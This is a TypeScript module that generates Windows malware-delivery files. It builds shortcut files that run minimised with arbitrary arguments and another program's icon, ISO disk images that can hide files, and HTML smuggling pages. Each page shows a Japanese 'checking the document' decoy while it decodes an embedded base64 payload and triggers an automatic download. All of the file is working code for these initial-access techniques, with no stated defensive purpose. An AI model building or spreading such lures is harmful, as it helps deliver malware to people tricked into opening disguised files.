/** Files that Windows acts on: shortcuts, disk images, pages that put a file together in the browser. */
import type { ZipFile } from './zip.ts'

/** A shortcut (MS-SHLLINK) with a target, arguments and somebody else's icon. */
export function shortcut(target: string, argument: string, icon = ''): Buffer {
  const head = Buffer.alloc(76)
  head.writeUInt32LE(76, 0)
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(head, 4)
  const flags = 0x80 | 0x08 | (argument ? 0x20 : 0) | (icon ? 0x40 : 0) // unicode, relative path, arguments, icon
  head.writeUInt32LE(flags, 20)
  head.writeUInt32LE(0x20, 24)
  head.writeUInt32LE(7, 60) // minimised
  const text = (value: string) => {
    const length = Buffer.alloc(2)
    length.writeUInt16LE(value.length)
    return Buffer.concat([length, Buffer.from(value, 'utf16le')])
  }
  return Buffer.concat([
    head,
    text(target),
    ...(argument ? [text(argument)] : []),
    ...(icon ? [text(icon)] : []),
    Buffer.alloc(4),
  ])
}

const SECTOR = 2048

/** ISO 9660 with Joliet names, one directory. */
export function diskImage(files: (ZipFile & { hidden?: boolean })[], label = 'DISK'): Buffer {
  const placed = files.map((file) => ({ ...file, sector: 0 }))
  let next = 22
  for (const file of placed) {
    file.sector = next
    next += Math.max(1, Math.ceil(file.content.length / SECTOR))
  }
  const image = Buffer.alloc(next * SECTOR)
  for (const file of placed) image.set(file.content, file.sector * SECTOR)
  volume(image, 16, 1, label, 20, next)
  volume(image, 17, 2, label, 21, next)
  image.write('\xffCD001\x01', 18 * SECTOR, 'latin1')
  directory(
    image,
    20,
    placed.map((file, i) => [Buffer.from(`FILE${i}.BIN;1`, 'latin1'), file]),
  )
  directory(
    image,
    21,
    placed.map((file) => [Buffer.from(file.name, 'utf16le').swap16(), file]),
  )
  return image
}

function both32(image: Buffer, value: number, at: number): void {
  image.writeUInt32LE(value, at)
  image.writeUInt32BE(value, at + 4)
}

function volume(image: Buffer, sector: number, type: number, label: string, root: number, size: number): void {
  const at = sector * SECTOR
  image.set([type], at)
  image.write('CD001\x01', at + 1, 'latin1')
  image.write(label.padEnd(32), at + 40, 'latin1')
  both32(image, size, at + 80)
  if (type === 2) image.write('%/E', at + 88, 'latin1')
  image.writeUInt16LE(1, at + 120)
  image.writeUInt16LE(1, at + 124)
  image.writeUInt16LE(SECTOR, at + 128)
  image.writeUInt16BE(SECTOR, at + 130)
  record(Buffer.of(0), root, SECTOR, 2).copy(image, at + 156)
}

type Placed = ZipFile & { sector: number; hidden?: boolean }

function directory(image: Buffer, sector: number, entries: [Buffer, Placed][]): void {
  const records = [
    record(Buffer.of(0), sector, SECTOR, 2),
    record(Buffer.of(1), sector, SECTOR, 2),
    ...entries.map(([name, file]) => record(name, file.sector, file.content.length, file.hidden ? 1 : 0)),
  ]
  Buffer.concat(records).copy(image, sector * SECTOR)
}

function record(name: Buffer, sector: number, size: number, flags: number): Buffer {
  const length = 33 + name.length + ((33 + name.length) % 2)
  const out = Buffer.alloc(length)
  out.set([length], 0)
  both32(out, sector, 2)
  both32(out, size, 10)
  out.set([126, 10, 5, 10, 12, 0, 36, flags], 18)
  out.writeUInt16LE(1, 28)
  out.writeUInt16BE(1, 30)
  out.set([name.length], 32)
  name.copy(out, 33)
  return out
}

/** A page that carries a file in itself and hands it to the reader as a download. */
export function smuggling(name: string, content: Uint8Array, way: number): Buffer {
  const data = Buffer.from(content).toString('base64')
  const open =
    '<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>文書の確認</title></head><body><p>文書を読み込んでいます…</p><script>'
  const close = '</script></body></html>\n'
  if (way % 2 === 0)
    return Buffer.from(
      `${open}var d="${data}";var b=atob(d),a=new Uint8Array(b.length);for(var i=0;i<b.length;i++)a[i]=b.charCodeAt(i);var o=new Blob([a],{type:"application/octet-stream"});var l=document.createElement("a");l.href=URL.createObjectURL(o);l.download=${JSON.stringify(name)};document.body.appendChild(l);l.click();${close}`,
    )
  const parts = data.match(/.{1,60}/g) ?? []
  return Buffer.from(
    `${open}const p=${JSON.stringify(parts)};fetch("data:application/zip;base64,"+p.join("")).then(r=>r.blob()).then(o=>{const u=window.URL.createObjectURL(o);const l=document.createElement("a");l.setAttribute("download",${JSON.stringify(name)});l.href=u;l.click()})${close}`,
  )
}
